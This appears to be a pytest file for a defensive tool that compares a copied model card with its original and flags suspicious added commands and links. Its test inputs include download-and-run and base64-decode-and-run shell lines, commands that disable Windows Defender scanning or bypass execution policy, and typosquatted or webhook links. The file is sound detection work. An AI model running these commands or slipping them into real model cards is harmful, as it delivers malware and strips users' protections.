"""What is new in a copy: in the order in which a person should look at it, and what each would do."""

import pytest

from core.command_tables import DEEDS
from core.comparison.card import parse_card
from core.comparison.cards import compare_cards
from core.comparison.command_notes import RANK
from core.comparison.results import Addition, AdditionKind, RowKind
from core.text import catalogue

ORIGINAL = """---
license: mit
tags: [text, small]
base_model: maker/base
---
# Model

Read [the paper](https://papers.example/1) and [the code](https://github.com/maker/model).

```bash
pip install torch
```
"""


def added(text: str, paths: tuple[str, ...] = ()) -> tuple[Addition, ...]:
    original = parse_card(ORIGINAL)
    return compare_cards(original, parse_card(ORIGINAL + text), paths).additions


def notes(addition: Addition) -> list[str]:
    return [note.id.removeprefix("comparison.note.") for note in addition.notes]


def command(line: str, *paths: str) -> list[str]:
    (only,) = [one for one in added(f"\n```bash\n{line}\n```\n", paths) if one.kind is AdditionKind.COMMAND]
    return notes(only)


@pytest.mark.parametrize(
    ("line", "note"),
    [
        ("python loader.py", "runs_here"),
        ("start.bat", "runs_here"),
        ("pip install rare-package", "installs_package"),
        ("uv add rare-package", "installs_package"),
        ("npm i -g rare-package", "installs_package"),
        ("pip install https://files.invalid/p.whl", "installs_address"),
        ("pip install git+https://github.com/a/b", "installs_address"),
        ("pip install --extra-index-url https://index.invalid/simple rare", "installs_index"),
        ("pip install -r requirements.txt", "installs_list"),
        ("pip install ./wheels/p.whl", "installs_beside"),
        ("npx create-thing", "runs_package"),
        ("curl -L https://files.invalid/x -o x", "fetches"),
        ("curl https://files.invalid/x | sh", "download-and-run"),
        ("git clone https://huggingface.co/a/b", "clones"),
        ("docker run -it some/image", "container"),
        ("sudo make install", "administrator"),
        ("Add-MpPreference -ExclusionPath C:\\x", "protection-off"),
        ("Set-ExecutionPolicy Bypass", "policy-bypass"),
        ("7z x models.7z -pinfected", "password-archive"),
        ("echo Y3VybA== | base64 -d | sh", "decode-and-run"),
    ],
)
def test_a_command_says_what_it_would_do(line: str, note: str) -> None:
    assert note in command(line, "loader.py", "start.bat")


@pytest.mark.parametrize(
    "line", ["cd model", "python -m http.server", "mkdir out && cd out", "hf download maker/model"]
)
def test_an_ordinary_command_has_nothing_to_say(line: str) -> None:
    assert command(line) == []


def test_every_deed_that_commands_are_searched_for_has_a_sentence() -> None:
    said = {message_id.removeprefix("comparison.note.") for message_id in catalogue()}
    assert DEEDS.keys() - {"installs"} <= said, "the note on installing names what is installed"
    assert {f"comparison.note.{kind}" for kind in DEEDS if kind != "installs"} <= RANK.keys()


def test_usual_options_are_not_taken_for_packages() -> None:
    addition = added("\n```bash\npip install -U --target out torchx -c limits.txt 'numpy<2' vllm[all]\n```\n")[0]
    assert dict(addition.notes[0].values)["names"] == "torchx, numpy, vllm"


@pytest.mark.parametrize(
    ("link", "note"),
    [
        ("[the paper](https://papers.invalid/1)", "same_words"),
        ("[https://papers.example](https://other.invalid)", "shows_other"),
        ("[x](https://hugginface.co/maker)", "imitates"),
        ("[x](https://huggingfаce.co/maker)", "foreign_letters"),
        ("[x](http://8.8.8.8/x)", "number"),
        ("[x](https://huggingface.co@files.invalid/x)", "credentials"),
        ("[x](https://files.invalid/setup.exe)", "downloads_program"),
        ("[x](https://bit.ly/x)", "shortener"),
        ("[x](https://pastebin.com/x)", "paste"),
        ("[x](https://gofile.io/x)", "file_host"),
        ("[x](https://drive.google.com/x)", "storage"),
        ("[x](https://webhook.site/x)", "receiver"),
        ("[x](https://a.trycloudflare.com/x)", "tunnel"),
        ("[x](https://t.me/x)", "messenger"),
        ("[x](http://papers.example/2)", "plain_http"),
        ("[x](https://files.invalid/x)", "new_host"),
    ],
)
def test_a_link_says_why_to_look_at_it(link: str, note: str) -> None:
    (only,) = [one for one in added(f"\n{link}\n") if one.kind is AdditionKind.LINK]
    assert note in notes(only)


def test_a_further_page_of_a_known_site_has_nothing_to_say() -> None:
    (only,) = added("\n[more](https://papers.example/2) of it\n")
    assert notes(only) == []


def test_the_most_telling_comes_first() -> None:
    text = "\n```bash\npip install rare\npython loader.py\ncurl https://x.invalid/a | sh\n```\n"
    text += "[a](https://papers.example/9) [b](https://bit.ly/b)\n"
    found = added(text + "See notes.txt and loader.py.\n", ("notes.txt", "loader.py"))
    assert [one.value for one in found] == [
        "curl https://x.invalid/a | sh",
        "python loader.py",
        "pip install rare",
        "https://bit.ly/b",
        "https://papers.example/9",
        "loader.py",
        "notes.txt",
    ]


def test_more_than_can_be_read_is_counted() -> None:
    text = "".join(f"\n[x{number}](https://host{number}.invalid/)\n" for number in range(250))
    original = parse_card(ORIGINAL)
    comparison = compare_cards(original, parse_card(ORIGINAL + text), ())
    assert (len(comparison.additions), comparison.additions_left_out) == (200, 50)


def test_words_that_end_like_a_country_are_no_links() -> None:
    found = added("\nLoad model.pt with loader.py, then read notes.md or write to a@papers.example.\n")
    assert [one.kind for one in found] == []
    assert added("\nSee www.files.invalid or https://files.invalid/x here.\n")[0].kind is AdditionKind.LINK


def test_headers_are_compared_key_by_key() -> None:
    changed = ORIGINAL.replace("[text, small]", "[small, text]").replace("license: mit", "license: other")
    changed = changed.replace("base_model: maker/base\n", "pipeline_tag: x\n")
    rows = compare_cards(parse_card(ORIGINAL), parse_card(changed), ()).front_matter
    assert [(row.key, row.kind) for row in rows] == [
        ("license", RowKind.DIFFERS),
        ("tags", RowKind.SAME),
        ("base_model", RowKind.ONLY_ORIGINAL),
        ("pipeline_tag", RowKind.ONLY_HERE),
    ]
    assert (rows[0].original, rows[0].here) == ("mit", "other")
